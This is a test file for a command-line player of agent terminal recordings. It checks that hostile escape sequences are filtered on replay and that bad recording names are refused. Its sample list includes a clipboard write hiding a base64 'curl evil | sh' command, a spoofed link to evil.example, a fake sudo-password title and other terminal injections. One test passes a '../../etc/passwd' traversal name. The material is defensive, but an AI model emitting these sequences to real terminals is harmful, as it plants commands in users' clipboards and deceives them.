import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Recording } from '../../../src/observe/recording.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..', '..');
const CLI = path.join(ROOT, 'dist', 'cli', 'agent-kernel.js');

/** What an agent can print to get at the person who replays its recording. */
const HOSTILE = [
  ['OSC 52 clipboard write', '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'],
  ['OSC 8 link', '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\'],
  ['title', '\x1b]0;you have mail\x07\x1b]2;sudo password?\x1b\\'],
  ['DCS (tmux passthrough to the outer terminal)', '\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\'],
  ['DECRQSS', '\x1bP$qm\x1b\\'],
  ['window operation', '\x1b[21t'],
  ['C1 OSC as UTF-8', '\u009d52;c;ZXZpbA==\u009c'],
] as const;

describe('agent-kernel play', () => {
  let dir: string;
  let cast: string;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'ak-play-'));
    cast = path.join(dir, 'tty_0-tick-001.cast');
    const recording = new Recording(cast, { cols: 80, rows: 24, title: 'TTY 0: bash (tick 1)' }, 1024 * 1024);
    recording.output('\x1b[1;32mgreen\x1b[0m before\r\n');
    for (const [, sequence] of HOSTILE) recording.output(`${sequence}`);
    // An OSC split across two events: judged whole.
    recording.output('\x1b]52;c;c3Bs');
    await recording.flush();
    recording.output('aXQ=\x07after\r\n');
    await recording.close();
  });

  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('writes the text and colours of a recording and none of its OSC 52, OSC 8, titles, DCS, window operations or C1 controls', async () => {
    const raw = await readFile(cast, 'utf8');
    // The recording does hold them (a raw player would pass them on).
    for (const [, sequence] of HOSTILE) expect(raw).toContain(JSON.stringify(sequence).slice(1, -1));
    const run = spawnSync(process.execPath, [CLI, 'play', cast, '--instant'], { encoding: 'buffer' });
    expect(run.stderr.toString()).toContain('through the attach filter');
    expect(run.status).toBe(0);
    const out = run.stdout.toString('utf8');
    expect(out).toContain('\x1b[1;32mgreen\x1b[0m before');
    expect(out).toContain('click me');
    expect(out).toContain('after');
    expect(out).not.toContain('\x1b]');
    expect(out).not.toContain('\x1bP');
    expect(out).not.toContain('\x1b[21t');
    expect(out).not.toMatch(/[\u0080-\u009f]/);
    expect(out).not.toContain('Y3VybCBldmlsIHwgc2g=');
    expect(out).not.toContain('you have mail');
    expect(out).not.toContain('evil.example');
  });

  it('keeps the recording\'s timing, capped by --idle-limit and scaled by --speed', async () => {
    const timed = path.join(dir, 'timed.cast');
    const header = JSON.stringify({ version: 2, width: 80, height: 24, timestamp: 0 });
    const { writeFile } = await import('node:fs/promises');
    await writeFile(timed, `${header}\n[0.1,"o","a"]\n[30.1,"o","b"]\n[30.5,"o","c"]\n`);
    const started = Date.now();
    const run = spawnSync(process.execPath, [CLI, 'play', timed, '--speed', '2', '--idle-limit', '0.4'], { encoding: 'utf8' });
    const took = Date.now() - started;
    expect(run.stdout).toBe('abc');
    // 0.1 + 0.4 (30 s capped) + 0.4 s, at twice the speed: about 450 ms (Node's start-up aside).
    expect(took).toBeGreaterThanOrEqual(450);
    expect(took).toBeLessThan(10_000);
  });

  it('says what is wrong with a missing file or a name that is not a recording', () => {
    const missing = spawnSync(process.execPath, [CLI, 'play', path.join(dir, 'nope.cast')], { encoding: 'utf8' });
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain('No recording at');
    const wrong = spawnSync(process.execPath, [CLI, 'play', 'demo', '../../etc/passwd'], { encoding: 'utf8' });
    expect(wrong.status).toBe(2);
    expect(wrong.stderr).toContain('is not a recording name');
  });
});
